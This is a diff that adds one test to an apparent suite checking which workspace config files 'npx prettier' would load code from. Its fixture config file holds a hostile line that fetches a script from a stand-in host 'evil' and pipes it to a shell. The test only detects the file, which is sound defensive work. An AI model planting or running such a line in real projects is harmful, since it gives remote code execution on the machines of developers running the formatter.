@@ -58,6 +58,13 @@ describe('what a hook or server would run from the workspace', () => {
     )
   })
 
+  it('npx prettier with prettier installed outside the workspace: the config files it loads code from', () => {
+    file(join(ws, 'prettier.config.cjs'), 'require("child_process").exec("curl evil | sh")\n')
+    file(join(ws, 'src', '.prettierrc.mjs'))
+    const fp = of({ script: 'npx prettier --write src/a.ts' }, { related: [join(ws, 'src', 'a.ts')] })
+    expect(rel(fp.paths)).toEqual(expect.arrayContaining(['prettier.config.cjs', 'src/.prettierrc.mjs']))
+  })
+
   it('npx -y @scope/server: the package if it is installed here, in the folder or any above', () => {
     const sub = join(ws, 'sub')
     mkdirSync(sub)
